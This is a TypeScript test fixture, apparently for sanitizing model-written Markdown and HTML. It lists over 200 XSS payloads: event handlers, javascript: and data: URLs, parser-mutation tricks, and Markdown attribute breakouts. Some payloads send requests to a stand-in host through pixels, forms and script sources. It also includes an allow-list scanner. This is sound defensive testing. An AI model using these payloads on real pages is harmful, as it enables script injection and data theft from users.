// What a model may write so that a page runs it, fetches for it, or sends something away: each would set
// `hacked`, or ask a host that is not there.

const OUT = "https://tracker.invalid";

/** Ways to run something as an element with a handler of its own. */
const HANDLERS = [
  ["img", "src=x onerror"],
  ["img", "src=x:y onerror"],
  ["svg", "onload"],
  ["svg", "xmlns=http://www.w3.org/2000/svg onload"],
  ["body", "onload"],
  ["video", "src=x onerror"],
  ["audio", "src=x onerror"],
  ["details", "open ontoggle"],
  ["input", "autofocus onfocus"],
  ["select", "autofocus onfocus"],
  ["textarea", "autofocus onfocus"],
  ["marquee", "onstart"],
  ["object", "data=x onerror"],
  ["iframe", "onload"],
  ["a", "href=x onmouseover"],
  ["div", "onpointerenter"],
  ["p", "style=animation-name:x onanimationstart"],
  ["button", "popovertarget=x onbeforetoggle"],
  ["style", "onload"],
  ["link", "rel=stylesheet href=x onerror"],
] as const;

/** The same element as a parser of HTML may still take it, and a filter may not. */
const WRITINGS: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}=hacked=1>`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}="hacked=1">`,
  (tag, handler) => `<${tag}/${handler.replaceAll(" ", "/")}='hacked=1'/>`,
  (tag, handler) => `<${tag}\n${handler.replaceAll(" ", "\n")}\n=\nhacked=1\n>`,
  (tag, handler) => `text <b><${tag} ${handler}=&#104;acked=1></b> text`,
];

const SCHEMES = [
  "javascript:hacked=1",
  "JaVaScRiPt:hacked=1",
  " javascript:hacked=1",
  "java\tscript:hacked=1",
  "javascript&colon;hacked=1",
  "&#106;avascript:hacked=1",
  "&#x6A&#x61vascript:hacked=1",
  "\u0001javascript:hacked=1",
  "javascript://x%0ahacked=1",
  "vbscript:hacked=1",
  "data:text/html,<script>parent.hacked=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=",
  "blob:null/hacked",
  "filesystem:hacked",
];

/** Markdown that makes links, pictures and references of an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![alt](${address})`,
  (address) => `[click][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">click</a>`,
];

const OTHERS = [
  "<script>hacked=1</script>",
  "<SCRIPT/x>hacked=1</SCRIPT>",
  `<script src=${OUT}/x.js></script>`,
  "<scr<script>ipt>hacked=1</scr</script>ipt>",
  "<script\u0000>hacked=1</script>",
  "<script type=module>hacked=1</script>",
  `<script type=importmap>{"imports":{"x":"${OUT}"}}</script>`,
  "<svg><script>hacked=1</script></svg>",
  "<svg><script href=data:,hacked=1 /></svg>",
  "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:hacked=1><text y=9>x</text></a></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked=1>#x"/></svg>',
  "<math><maction actiontype=statusline xlink:href=javascript:hacked=1>x</maction></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=hacked=1>'></noscript>",
  "<svg></p><style><a id='</style><img src=x onerror=hacked=1>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hacked=1>",
  "<title><img src=x onerror=hacked=1></title>",
  "<textarea><img src=x onerror=hacked=1></textarea><img src=x onerror=hacked=1>",
  "<template><img src=x onerror=hacked=1></template>",
  "<template shadowrootmode=open><img src=x onerror=hacked=1></template>",
  "<iframe src=javascript:parent.hacked=1></iframe>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  `<iframe src=${OUT}/></iframe>`,
  "<embed src=javascript:hacked=1>",
  `<object data=${OUT}/x></object>`,
  `<base href=${OUT}/>`,
  "<meta http-equiv=refresh content='0;url=javascript:hacked=1'>",
  `<meta http-equiv=refresh content='0;url=${OUT}'>`,
  `<link rel=stylesheet href=${OUT}/x.css>`,
  `<link rel=preload as=image href=${OUT}/x>`,
  `<link rel=dns-prefetch href=${OUT}>`,
  `<style>@import '${OUT}/x.css'; body{background:url(${OUT}/x)}</style>`,
  `<p style="background:url(${OUT}/x)">x</p>`,
  `<img src=${OUT}/pixel.png>`,
  `<img srcset="${OUT}/a 1x">`,
  `![pixel](${OUT}/pixel.png)`,
  `[![pixel](${OUT}/pixel.png)](${OUT})`,
  `<picture><source srcset=${OUT}/x><img></picture>`,
  `<video poster=${OUT}/x src=${OUT}/y>`,
  `<form action=${OUT}><input name=talk autofocus><button>Go on</button></form>`,
  "<form id=x></form><button form=x formaction=javascript:hacked=1>x</button>",
  `<a href=${OUT} ping=${OUT}/ping>x</a>`,
  "<a id=MarkdownFlow name=loadMarkdown><a id=document name=cookie>x",
  "<form name=document><input name=body></form>",
  "<img name=getElementById><img name=querySelector>",
  "```<img/src/onerror=hacked=1>\ncode\n```",
  '```js" onclick=hacked=1 x="\ncode\n```',
  "```\n</code></pre><img src=x onerror=hacked=1>\n```",
  "`<img src=x onerror=hacked=1>`",
  '[x](https://example.invalid "\\" onmouseover=hacked=1 \\"")',
  '![x" onerror="hacked=1](x)',
  "![x](x 'y\" onerror=\"hacked=1')",
  '[x](https://example.invalid" onclick="hacked=1)',
  "| <img src=x onerror=hacked=1> | b |\n|---|---|\n| <svg onload=hacked=1> | x |",
  "# <img src=x onerror=hacked=1>",
  "> <img src=x onerror=hacked=1>\n> > <svg onload=hacked=1>",
  "1. <img src=x onerror=hacked=1>\n   - <svg onload=hacked=1>",
  "- [x] <img src=x onerror=hacked=1>",
  "~~<img src=x onerror=hacked=1>~~ **<svg onload=hacked=1>**",
  "&lt;img src=x onerror=hacked=1&gt;",
  "\\<img src=x onerror=hacked=1\\>",
  "<br onclick=hacked=1><br/><br \n onload=hacked=1>",
  "<x onclick=hacked=1 contenteditable autofocus onfocus=hacked=1>x</x>",
  "<a href=https://example.invalid target=_self rel=opener>x</a>",
  "<![CDATA[<img src=x onerror=hacked=1>]]>",
  "<?xml version='1.0'?><img src=x onerror=hacked=1>",
  "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=hacked=1>'>]>&x;",
  // What is never closed, and takes in what comes behind it.
  "<!-- <img src=x onerror=hacked=1> --!> <img src=x onerror=hacked=1>",
  "<img src=x onerror=hacked=1 title='",
  "<script>hacked=1",
  "~~~html\n<img src=x onerror=hacked=1>",
  "<style><img src=x onerror=hacked=1>",
  "<textarea><img src=x onerror=hacked=1>",
  "<xmp><img src=x onerror=hacked=1>",
  "<plaintext><img src=x onerror=hacked=1>",
];

/** Over 200, no two of them alike; those that are never closed stand at the end. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...HANDLERS.flatMap(([tag, handler]) => WRITINGS.map((write) => write(tag, handler))),
    ...SCHEMES.flatMap((address) => LINKS.map((link) => link(address))),
    ...OTHERS,
  ]),
];

/** One answer with many of them at once. */
export const HOSTILE = "Look <script>hacked = 1</script> here <img src=x onerror=hacked=2> and " +
  "[click me](javascript:hacked=3) and [this](data:text/html;base64,PHNjcmlwdD4=) and " +
  "![picture](https://tracker.invalid/pixel.png) and <svg onload=hacked=4></svg> and " +
  "<iframe src=javascript:hacked=5></iframe> and <a href=x onclick=hacked=6>me</a>\n\n" +
  "```<img/src/onerror=hacked=7>\n</code></pre><img src=x onerror=hacked=8>\n```\n\n" +
  "<style>body{display:none}</style>\n\n<form action=https://tracker.invalid><input></form> the end";

/** In a page: what below an element could run, fetch, or lead anywhere but where somebody clicks. */
export const DANGERS_IN = `(root) => {
  const tags = new Set(("A B BLOCKQUOTE BR BUTTON CODE DEL DETAILS DIV EM FOOTER H2 H3 H4 H5 H6 HEADER HR " +
    "LI OL P PRE SPAN STRONG SUMMARY TABLE TBODY TD TH THEAD TR UL").split(" "));
  const attributes = new Set(("align aria-label class href rel role start tabindex target title type").split(" "));
  const found = [];
  for (const element of root.querySelectorAll("*")) {
    if (!tags.has(element.tagName)) found.push(element.outerHTML.slice(0, 200));
    for (const { name, value } of element.attributes) {
      const isLink = name !== "href" || /^(?:https?:|mailto:)/.test(value);
      if (!attributes.has(name) || !isLink) found.push(element.tagName + " " + name + "=" + value);
    }
    if (element.hasAttribute("href") && element.rel !== "noopener noreferrer") {
      found.push("A without rel: " + element.outerHTML);
    }
  }
  return found;
}`;
